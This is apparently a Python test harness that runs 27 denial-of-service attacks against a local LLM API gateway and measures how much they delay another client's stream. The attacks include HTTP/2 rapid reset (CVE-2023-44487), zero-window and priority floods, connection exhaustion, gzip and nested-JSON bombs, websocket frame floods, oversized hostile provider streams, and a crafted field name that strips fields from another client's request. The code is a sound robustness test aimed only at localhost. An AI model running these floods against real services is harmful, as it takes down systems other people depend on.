"""Attacks on a real gateway, while the lateness of a client's paced stream is measured.

    python tests/attacks.py                      # all of them
    python tests/attacks.py --only unfolding --trigate ../older/.venv/bin/trigate

Each attack has a new gateway (one worker, two client keys, the default limits), while bob, the holder of the other key,
streams an event every 10 ms. The output has the greatest lateness of bob's events, the longest times of his small
requests and of those with 150 kB, the number of requests that were refused, the growth of the gateway's memory and log,
and the bytes that the attacker sent. Other load on the machine adds to the lateness: compare within one run.
"""

import argparse
import contextlib
import gzip
import http.client
import json
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Final

import attrs
import hpack

BOB, MALLORY = "bob-holds-this-key-for-tests", "mallory-holds-this-key-for-tests"
PACE: Final = 0.01
EVENT: Final = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
MB: Final = 2**20
PATIENCE: Final = 60.0


# The victim, in a separate process, so that its work does not count as the gateway's


class Paced(BaseHTTPRequestHandler):
    """A provider of endless paced streams and of small answers."""

    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        asked = json.loads(self.rfile.read(int(self.headers["content-length"])))
        if asked.get("stream"):
            self._stream()
        else:
            message = {"role": "assistant", "content": "hi"}
            self._answer({**EVENT, "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})

    def _stream(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        with contextlib.suppress(OSError):
            while True:
                delta = {"delta": {"content": f"{time.monotonic()} "}, "index": 0}
                self.wfile.write(f"data: {json.dumps({**EVENT, 'choices': [delta]})}\n\n".encode())
                time.sleep(PACE)
        self.close_connection = True

    def _answer(self, body: dict[str, Any]) -> None:
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_: object) -> None:
        pass


def victim(gateway: int, provider: int) -> None:
    """Print, for each line of input, the events since the last one."""
    server = ThreadingHTTPServer(("127.0.0.1", provider), Paced)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    print("ready", flush=True)
    sys.stdin.readline()
    seen: dict[str, list[float]] = {"late": [0.0], "small": [0.0], "large": [0.0], "refused": [], "cut": []}
    threading.Thread(target=_watch_stream, args=(gateway, seen), daemon=True).start()
    for name, words in (("small", 1), ("large", 30_000)):
        threading.Thread(target=_ask_often, args=(gateway, seen, name, words), daemon=True).start()
    for _ in sys.stdin:
        found = {name: max(seen[name], default=0.0) for name in ("late", "small", "large")}
        print(json.dumps({**found, "refused": seen["refused"], "cut": len(seen["cut"])}), flush=True)
        seen.update(late=[0.0], small=[0.0], large=[0.0], refused=[], cut=[])


def _watch_stream(gateway: int, seen: dict[str, list[float]]) -> None:
    while True:
        with contextlib.suppress(OSError, http.client.HTTPException):
            connection = http.client.HTTPConnection("127.0.0.1", gateway, timeout=PATIENCE)
            body = {"model": "paced", "stream": True, "messages": [{"role": "user", "content": "go"}]}
            connection.request("POST", "/v1/chat/completions", json.dumps(body), headers(BOB))
            response = connection.getresponse()
            if response.status == 200:
                last = time.monotonic()
                while response.read1(65536):
                    now = time.monotonic()
                    seen["late"].append(now - last - PACE)
                    last = now
        seen["cut"].append(1.0)
        time.sleep(0.1)


def _ask_often(gateway: int, seen: dict[str, list[float]], name: str, words: int) -> None:
    content = "word " * words
    while True:
        began = time.monotonic()
        try:
            status, _ = ask(gateway, BOB, {"model": "paced", "messages": [{"role": "user", "content": content}]})
        except (OSError, http.client.HTTPException):
            status = 0
        seen[name].append(time.monotonic() - began)
        if status != 200:
            seen["refused"].append(status)
        time.sleep(0.1)


def headers(key: str | None, **more: str) -> dict[str, str]:
    sent = {"content-type": "application/json", **more}
    return sent if key is None else {**sent, "authorization": f"Bearer {key}"}


def ask(port: int, key: str | None, body: Any, path: str = "/v1/chat/completions", **more: str) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
    try:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        connection.request("POST", path, data, headers(key, **more))
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


# The provider for the attacker's requests


class Hostile(BaseHTTPRequestHandler):
    """A provider whose behaviour is selected by the model name. It records its requests."""

    protocol_version = "HTTP/1.1"
    requests: "list[tuple[dict[str, str], dict[str, Any]]]" = []  # noqa: RUF012

    def do_POST(self) -> None:
        data = self.rfile.read(int(self.headers["content-length"]))
        asked = json.loads(data) if data.startswith(b"{") else {}  # a form
        self.requests.append(({k.lower(): v for k, v in self.headers.items()}, asked))
        answer = SCRIPTS.get(asked.get("model", ""), _good)
        with contextlib.suppress(OSError):
            for piece in answer(asked, len(self.requests)):
                self.wfile.write(piece)
        self.close_connection = True

    def log_message(self, *_: object) -> None:
        pass


def _head(status: int, kind: str, more: str = "") -> bytes:
    return f"HTTP/1.1 {status} X\r\ncontent-type: {kind}\r\n{more}connection: close\r\n\r\n".encode()


def _good(asked: Mapping[str, Any], _: int) -> Iterator[bytes]:
    yield _head(200, "application/json")
    block = {"type": "text", "text": "hi"}
    usage = {"input_tokens": 1, "output_tokens": 1}
    if "messages" in asked and "max_tokens" in asked:
        body: Any = {"id": "m", "type": "message", "role": "assistant", "model": "m", "content": [block],
                     "stop_reason": "end_turn", "usage": usage}  # fmt: skip
    else:
        message = {"role": "assistant", "content": "hi"}
        body = {**EVENT, "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}
    yield json.dumps(body).encode()


def _quotes(asked: Mapping[str, Any], _: int) -> Iterator[bytes]:
    """Repeat the request in an error 400."""
    yield _head(400, "application/json")
    role = asked["messages"][0]["role"]
    message = f"Invalid value: '{role}'. Supported values are: 'system', 'assistant', 'user'."
    yield json.dumps({"error": {"message": message, "type": "invalid_request_error"}}).encode()


def _strict_about_metadata(asked: Mapping[str, Any], number: int) -> Iterator[bytes]:
    """Reject unknown members of ``metadata`` in Anthropic's words."""
    unknown = [name for name in asked.get("metadata", {}) if name != "user_id"]
    if not unknown:
        yield from _good(asked, number)
        return
    yield _head(400, "application/json")
    message = f"metadata.{unknown[0]}: Extra inputs are not permitted"
    yield json.dumps({"type": "error", "error": {"type": "invalid_request_error", "message": message}}).encode()


def _event(kind: str, **fields: Any) -> bytes:
    return f"event: {kind}\ndata: {json.dumps({'type': kind, **fields})}\n\n".encode()


def _messages_stream(events: Iterator[bytes]) -> Iterator[bytes]:
    yield _head(200, "text/event-stream")
    usage = {"input_tokens": 1, "output_tokens": 1}
    message = {"id": "m", "type": "message", "role": "assistant", "model": "m", "content": [], "usage": usage}
    yield _event("message_start", message=message)
    yield from events


def _blocks(*_: object) -> Iterator[bytes]:
    """Send 2 MB of tool calls that begin and do not end."""
    tool = {"type": "tool_use", "name": "t", "input": {}}
    blocks = (_event("content_block_start", index=i, content_block={**tool, "id": f"t{i}"}) for i in range(13_000))
    yield from _messages_stream(blocks)


def _signatures(*_: object) -> Iterator[bytes]:
    """Send 6 MB of one signature, in small pieces."""
    start = _event("content_block_start", index=0, content_block={"type": "thinking", "thinking": ""})
    piece = _event("content_block_delta", index=0, delta={"type": "signature_delta", "signature": "x" * 16}) * 64

    def events() -> Iterator[bytes]:
        yield start
        for _ in range(6 * MB // len(piece)):
            yield piece

    yield from _messages_stream(events())


def _arrays(*_: object) -> Iterator[bytes]:
    """Send a whole answer of 15 MB that only has arrays."""
    yield _head(200, "application/json")
    yield b'{"id":"c","object":"chat.completion","created":1,"model":"m","choices":[],"more":[[]'
    for _ in range(15):
        yield b",[]" * (MB // 3)
    yield b"]}"


def _comment_lines(*_: object) -> Iterator[bytes]:
    """Send 8 MB of comment lines as one event."""
    yield _head(200, "text/event-stream")
    for _ in range(8):
        yield b":\n" * (MB // 2)
    yield b"\n"


def _comments(*_: object) -> Iterator[bytes]:
    """Send a million comments, compressed."""
    yield _head(200, "text/event-stream", "content-encoding: gzip\r\n") + gzip.compress(b":\n\n" * MB)


def _choices(asked: Mapping[str, Any], _: int) -> Iterator[bytes]:
    """Send 3,000 choices with a member of half a megabyte."""
    yield _head(200, "application/json")
    message = {"role": "assistant", "content": "hi"}
    choices = [{"index": at, "message": message, "finish_reason": "stop"} for at in range(3000)]
    yield json.dumps({**EVENT, "more": "x" * (MB // 2), "choices": choices}).encode()


def _pieces(asked: Mapping[str, Any], _: int) -> Iterator[bytes]:
    """Send the arguments of a call in 100,000 pieces."""
    yield _head(200, "text/event-stream")
    for at in range(100_000):
        function = {"arguments": "1"} if at else {"name": "f", "arguments": ""}
        delta = {"tool_calls": [{"index": 0, "id": "c", "function": function}]}
        yield f"data: {json.dumps({**EVENT, 'choices': [{'index': 0, 'delta': delta}]})}\n\n".encode()
    yield b"data: [DONE]\n\n"


def _interim(*_: object) -> Iterator[bytes]:
    for _ in range(60 * 50):
        yield b"HTTP/1.1 100 Continue\r\n\r\n" * 40
    yield from _good({}, 0)


SCRIPTS: Final[Mapping[str, Callable[[Mapping[str, Any], int], Iterator[bytes]]]] = {
    "quotes": _quotes,
    "metadata": _strict_about_metadata,
    "blocks": _blocks,
    "signatures": _signatures,
    "arrays": _arrays,
    "interim": _interim,
    "comment_lines": _comment_lines,
    "comments": _comments,
    "choices": _choices,
    "pieces": _pieces,
}


# The gateway


@attrs.frozen
class Target:
    """The attacked gateway."""

    port: int
    pid: int
    log: Path

    def memory(self) -> float:
        """Return the present memory in MiB."""
        return self._status("VmRSS")

    def peak(self) -> float:
        return self._status("VmHWM")

    def _status(self, name: str) -> float:
        for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith(name + ":"):
                return int(line.split()[1]) / 1024
        raise LookupError(name)


STEPS: Final = [
    {"use": "pii", "action": "mask", "restore": True, "for": {"models": ["*", "!paced"]}},
    {"use": "secrets", "at": ["request", "response"], "for": {"models": ["*", "!paced"]}},
]
"""The steps before which some attacks run."""


def config(port: int, paced: int, hostile: int, *, has_steps: bool) -> dict[str, Any]:
    def entry(model: str, to: int, speaks: list[str]) -> dict[str, Any]:
        vendor = "anthropic" if speaks == ["messages"] else "openai"
        url = f"http://127.0.0.1:{to}/v1"
        return {"model": f"{vendor}/{model}", "base_url": url, "access_key": "the-operators-key", "speaks": speaks}

    entries = [entry("paced", paced, ["chat"])]
    entries += [
        entry(name, hostile, ["chat"])
        for name in ("hub", "quotes", "arrays", "interim", "comment_lines", "comments", "choices", "pieces")
    ]
    entries += [entry(name, hostile, ["messages"]) for name in ("metadata", "blocks", "signatures")]
    keys = [{"name": "bob", "key": BOB}, {"name": "mallory", "key": MALLORY}]
    return {"version": "v0.3.0", "listeners": [{"type": "model", "port": port}], "model_providers": entries,
            "client_keys": keys, **({"steps": STEPS} if has_steps else {})}  # fmt: skip


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


@contextlib.contextmanager
def running(trigate: Path, paced: int, hostile: int, descriptors: int | None, *, has_steps: bool) -> Iterator[Target]:
    with tempfile.TemporaryDirectory() as folder:
        port, log = free_port(), Path(folder) / "log"
        file = Path(folder) / "trigate.yaml"
        file.write_text(json.dumps(config(port, paced, hostile, has_steps=has_steps)))
        limit = [] if descriptors is None else ["prlimit", f"--nofile={descriptors}:{descriptors}"]
        with log.open("wb") as output:
            process = subprocess.Popen([*limit, str(trigate), "serve", str(file)], stdout=output, stderr=output)
        try:
            until = time.monotonic() + PATIENCE
            while not _healthy(port):
                assert process.poll() is None, log.read_text()
                assert time.monotonic() < until
                time.sleep(0.05)
            yield Target(port, process.pid, log)
        finally:
            process.kill()
            process.wait()


def _healthy(port: int) -> bool:
    with contextlib.suppress(OSError, http.client.HTTPException):
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=1)
        connection.request("GET", "/healthz")
        return connection.getresponse().status == 200
    return False


# The attacks. Each returns the bytes that it sent, and a note on the result


def zero_window(target: Target) -> tuple[int, str]:
    """Request responses without a key, on 16 HTTP/2 connections whose windows stay closed."""
    sent, connections = 0, []
    for _ in range(16):
        frames, encoder = _preface([(4, 0)]), hpack.Encoder()
        for i in range(99):
            fields = [(":method", "POST"), (":path", "/v1/chat/completions"), (":scheme", "http"), (":authority", "x")]
            frames += _frame(1, 0x5, 2 * i + 1, encoder.encode(fields))
        sock = socket.create_connection(("127.0.0.1", target.port))
        with contextlib.suppress(OSError):
            sock.sendall(frames)
        sent += len(frames)
        connections.append(sock)
    time.sleep(5)
    for sock in connections:
        sock.close()
    return sent, ""


def resets(target: Target) -> tuple[int, str]:
    """Open and reset a stream 20,000 times (CVE-2023-44487)."""
    sock = socket.create_connection(("127.0.0.1", target.port))
    encoder, sent, number = hpack.Encoder(), 0, 1
    fields = [(":method", "POST"), (":path", "/v1/models"), (":scheme", "http"), (":authority", "x")]
    with contextlib.suppress(OSError):
        sock.sendall(_preface([]))
        for _ in range(200):
            frames = b""
            for _ in range(100):
                frames += _frame(1, 0x4, number, encoder.encode(fields)) + _frame(3, 0, number, struct.pack(">I", 8))
                number += 2
            sock.sendall(frames)
            sent += len(frames)
    sock.close()
    return sent, f"{number // 2} streams taken"


def priorities(target: Target) -> tuple[int, str]:
    sock = socket.create_connection(("127.0.0.1", target.port))
    frames = b"".join(_frame(2, 0, 2 * i + 1, struct.pack(">IB", 0, 15)) for i in range(5000))
    with contextlib.suppress(OSError):
        sock.sendall(_preface([]) + frames)
    time.sleep(0.5)
    sock.close()
    return len(frames), f"{target.log.read_text().count('Traceback')} tracebacks"


def _preface(settings: list[tuple[int, int]]) -> bytes:
    pairs = b"".join(struct.pack(">HI", *pair) for pair in settings)
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, pairs)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def idle_connections(target: Target) -> tuple[int, str]:
    """Open as many silent connections as there are descriptors (256 here)."""
    connections = []
    with contextlib.suppress(OSError):
        for _ in range(300):
            connections.append(socket.create_connection(("127.0.0.1", target.port), timeout=1))  # noqa: PERF401
    time.sleep(5)
    healthy = _healthy(target.port)
    for sock in connections:
        sock.close()
    return 0, f"health {'answered' if healthy else 'dead'}, {target.log.read_text().count('Traceback')} tracebacks"


def long_name(target: Target) -> tuple[int, str]:
    """Send an unknown member with a name of 20 MB, compressed, for translation; three times."""
    body = {"model": "hub", "max_tokens": 9, "messages": [{"role": "user", "content": "x"}], "n" * (20 * MB): 1}
    return _send_gzipped(target, json.dumps(body).encode(), "/v1/messages", times=3)


def unfolding(target: Target) -> tuple[int, str]:
    """Send 16 MB of tiny turns in 40 kB of gzip, for translation."""
    turn = '{"role":"user","content":"x"},'
    turns = turn * (16 * MB // len(turn))
    return _send_gzipped(target, f'{{"model":"hub","max_tokens":9,"messages":[{turns[:-1]}]}}'.encode(), "/v1/messages")


def unfolding_kept(target: Target) -> tuple[int, str]:
    """Send the same as a Responses turn that is kept."""
    turn = '{"role":"user","content":"x"},'
    turns = turn * (16 * MB // len(turn))
    return _send_gzipped(target, f'{{"model":"hub","input":[{turns[:-1]}]}}'.encode(), "/v1/responses")


def nested(target: Target) -> tuple[int, str]:
    """Send 15 MB of empty arrays in an unknown member."""
    body = b'{"model":"hub","max_tokens":9,"messages":[{"role":"user","content":"x"}],"more":[[]' + b",[]" * (5 * MB)
    return _send_gzipped(target, body + b"]}", "/v1/messages")


def wide(target: Target) -> tuple[int, str]:
    """Send 60 MB of text in 600 turns, uncompressed, as a large honest request would."""
    turns = [{"role": "user", "content": "word " * 20_000} for _ in range(600)]
    body = json.dumps({"model": "hub", "max_tokens": 9, "messages": turns}).encode()
    return len(body), str(ask(target.port, MALLORY, body, "/v1/messages")[0])


def names(target: Target) -> tuple[int, str]:
    """Send 150,000 unknown members in strict mode."""
    body = {"model": "hub", "max_tokens": 9, "messages": [{"role": "user", "content": "x"}]}
    body.update({f"n{i}": 1 for i in range(150_000)})
    return _send_gzipped(target, json.dumps(body).encode(), "/v1/messages", **{"x-trigate-strict": "1"})


def schema(target: Target) -> tuple[int, str]:
    """Send a strict tool with 25,000 properties."""
    properties = {f"property_{i}": {"type": "string"} for i in range(25_000)}
    fields = {"type": "object", "properties": properties, "required": list(properties), "additionalProperties": False}
    tool = {"name": "t", "description": "t", "strict": True, "input_schema": fields}
    turn = [{"role": "user", "content": "x"}]
    body = {"model": "hub", "max_tokens": 9, "messages": turn, "tools": [tool]}
    return _send_gzipped(target, json.dumps(body).encode(), "/v1/messages")


def quoted(target: Target) -> tuple[int, str]:
    """Send a role of 3,900 characters, which the provider repeats in its 400; ten times."""
    body = {"model": "quotes", "messages": [{"role": "a" * 3900, "content": "x"}]}
    statuses = [ask(target.port, MALLORY, body)[0] for _ in range(10)]
    return 10 * 4000, str(statuses[0])


def poisoned(target: Target) -> tuple[int, str]:
    """Send a member's name that, repeated by the provider, mentions members of others' requests."""
    name = " metadata: Extra inputs are not permitted, temperature: Extra inputs are not permitted, thinking"
    turn = {"model": "metadata", "max_tokens": 9, "messages": [{"role": "user", "content": "x"}]}
    sent = {**turn, "temperature": 0.5, "thinking": {"type": "disabled"}, "metadata": {name: 1}}
    ask(target.port, MALLORY, sent, "/v1/messages")
    asked = {**turn, "temperature": 0.5, "stop_sequences": ["x"], "metadata": {"user_id": "bob"}}
    ask(target.port, BOB, asked, "/v1/messages")
    lost = sorted(set(asked) - set(Hostile.requests[-1][1]))
    return 300, f"bob's request has lost {lost}"


def open_blocks(target: Target) -> tuple[int, str]:
    return _streams(target, "blocks")


def signature(target: Target) -> tuple[int, str]:
    return _streams(target, "signatures")


def whole_answer(target: Target) -> tuple[int, str]:
    body = {"model": "arrays", "max_tokens": 9, "messages": [{"role": "user", "content": "x"}]}
    return 100, str(ask(target.port, MALLORY, body, "/v1/messages")[0])


def interim_heads(target: Target) -> tuple[int, str]:
    body = {"model": "interim", "max_tokens": 9, "messages": [{"role": "user", "content": "x"}]}
    return 100, str(ask(target.port, MALLORY, body, "/v1/messages")[0])


def comment_lines(target: Target) -> tuple[int, str]:
    return _streams(target, "comment_lines")


def comments(target: Target) -> tuple[int, str]:
    return _streams(target, "comments")


def batch(target: Target) -> tuple[int, str]:
    """Create a batch of 20,000 requests in one body."""
    params = {"model": "metadata", "max_tokens": 9, "messages": [{"role": "user", "content": "x"}]}
    body = json.dumps({"requests": [{"custom_id": str(i), "params": params} for i in range(20_000)]}).encode()
    return len(body), str(ask(target.port, MALLORY, body, "/v1/messages/batches")[0])


def batch_line(target: Target) -> tuple[int, str]:
    """Upload a batch file with a line of 15 MB."""
    turn = [{"role": "user", "content": "x" * 15 * MB}]
    line = {
        "custom_id": "a",
        "method": "POST",
        "url": "/v1/chat/completions",
        "body": {"messages": turn, "model": "hub"},
    }
    part = '--b\r\ncontent-disposition: form-data; name="{}"\r\n\r\n{}\r\n'
    form = part.format("purpose", "batch") + part.format('file"; filename="a.jsonl', json.dumps(line)) + "--b--\r\n"
    kind = {"content-type": "multipart/form-data; boundary=b"}
    return len(form), str(ask(target.port, MALLORY, form.encode(), "/v1/files", **kind)[0])


def websocket_fragments(target: Target) -> tuple[int, str]:
    """Send a message in fragments of a letter."""
    return _flood(target, b"\x01\x81" + bytes(4) + b"x", b"\x00\x81" + bytes(4) + b"x")


def websocket_pongs(target: Target) -> tuple[int, str]:
    return _flood(target, b"", b"\x8a\x80" + bytes(4))


def _flood(target: Target, first: bytes, frame: bytes) -> tuple[int, str]:
    """Send two million frames on a websocket, as far as the gateway reads them."""
    sock = socket.create_connection(("127.0.0.1", target.port), timeout=PATIENCE)
    sent = 0
    with sock:
        sock.sendall(
            b"GET /v1/responses HTTP/1.1\r\nhost: x\r\nconnection: Upgrade\r\nupgrade: websocket\r\n"
            b"sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
            b"authorization: Bearer " + MALLORY.encode() + b"\r\n\r\n"
        )
        head = sock.recv(4096)
        with contextlib.suppress(OSError):
            sock.sendall(first)
            for _ in range(200):
                sock.sendall(frame * 10_000)
                sent += len(frame) * 10_000
    return sent, head.split(b"\r\n")[0].decode()


def crowd(target: Target) -> tuple[int, str]:
    """Send the longest honest translation eight times simultaneously: large requests of others wait for the threads."""
    turns = [{"role": "user", "content": f"{i}"} for i in range(40_000)]
    body = json.dumps({"model": "hub", "max_tokens": 9, "messages": turns}).encode()
    threads = [threading.Thread(target=ask, args=(target.port, MALLORY, body, "/v1/messages")) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return 8 * len(body), ""


def many_choices(target: Target) -> tuple[int, str]:
    """Request two choices of a provider that sends thousands, for translation."""
    body = {"contents": [{"role": "user", "parts": [{"text": "x"}]}], "generationConfig": {"candidateCount": 2}}
    headers = {"x-goog-api-key": MALLORY}
    return 100, str(ask(target.port, None, body, "/v1beta/models/choices:generateContent", **headers)[0])


def checked_texts(target: Target) -> tuple[int, str]:
    """Send 60,000 short texts, which steps check."""
    turn = [{"role": "user", "content": "x"}]
    body = json.dumps({"model": "hub", "messages": turn, "stop": [f"x{at}" for at in range(60_000)]}).encode()
    return len(body), str(ask(target.port, MALLORY, body)[0])


def checked_pieces(target: Target) -> tuple[int, str]:
    return _streams(target, "pieces")


def _streams(target: Target, model: str) -> tuple[int, str]:
    """Request a hostile stream in both lanes."""
    turn = {"model": model, "stream": True, "max_tokens": 9, "messages": [{"role": "user", "content": "x"}]}
    ends = []
    for path in ("/v1/messages", "/v1/chat/completions"):
        status, body = ask(target.port, MALLORY, turn, path)
        ends.append(f"{status} {'error' if b'error' in body[-2000:] else 'end'}")
    return 200, ", ".join(ends)


def _send_gzipped(target: Target, body: bytes, path: str, times: int = 1, **more: str) -> tuple[int, str]:
    data, sent = gzip.compress(body), {"content-encoding": "gzip", **more}
    statuses = [ask(target.port, MALLORY, data, path, **sent)[0] for _ in range(times)]
    return len(data) * times, str(statuses[0])


ATTACKS: Final = (
    zero_window, resets, priorities, idle_connections, long_name, unfolding, unfolding_kept, nested, wide, names,
    schema, quoted, poisoned, open_blocks, signature, whole_answer, interim_heads, comment_lines, comments, batch,
    batch_line, websocket_fragments, websocket_pongs, crowd, many_choices, checked_texts, checked_pieces,
)  # fmt: skip

BEFORE_STEPS: Final = (checked_texts, checked_pieces)
"""The attacks on a gateway with steps."""


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    here = Path(sys.executable).with_name("trigate")
    parser.add_argument("--trigate", type=Path, default=here, help="the gateway's command (default: %(default)s)")
    parser.add_argument("--only", nargs="*", default=[], metavar="ATTACK")
    parser.add_argument("--victim", nargs=2, type=int, help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.victim:
        victim(*args.victim)
        return
    hostile = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    threading.Thread(target=hostile.serve_forever, daemon=True).start()
    columns = ("sent", "late ms", "small ms", "large ms", "refused", "MiB", "log kB")
    print(f"{'attack':20}", *(f"{column:>9}" for column in columns), " came of it")
    for attack in ATTACKS:
        if not args.only or attack.__name__ in args.only:
            run(attack, args.trigate, hostile.server_address[1])


def run(attack: Callable[[Target], tuple[int, str]], trigate: Path, hostile: int) -> None:
    """Run one attack next to a victim, and print its result."""
    paced = free_port()
    descriptors = 256 if attack is idle_connections else None
    with running(trigate, paced, hostile, descriptors, has_steps=attack in BEFORE_STEPS) as target:
        command = [sys.executable, __file__, "--victim", str(target.port), str(paced)]
        bob = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        try:
            assert bob.stdout is not None
            assert bob.stdout.readline() == "ready\n"
            _tell(bob)
            time.sleep(2)
            _tell(bob)
            bob.stdout.readline()
            before, log = target.memory(), target.log.stat().st_size
            try:
                sent, word = attack(target)
            except (OSError, http.client.HTTPException) as error:
                sent, word = 0, f"{type(error).__name__}"
            time.sleep(1)
            _tell(bob)
            seen = json.loads(bob.stdout.readline())
        finally:
            bob.kill()
            bob.wait()
        grown, written = target.peak() - before, (target.log.stat().st_size - log) / 1000
        times = [seen[name] * 1000 for name in ("late", "small", "large")]
        numbers = (sent, *times, len(seen["refused"]), grown, written)
        print(f"{attack.__name__:20}", *(f"{number:9.0f}" for number in numbers), "", word, flush=True)


def _tell(process: "subprocess.Popen[str]") -> None:
    assert process.stdin is not None
    process.stdin.write("\n")
    process.stdin.flush()


if __name__ == "__main__":
    main()
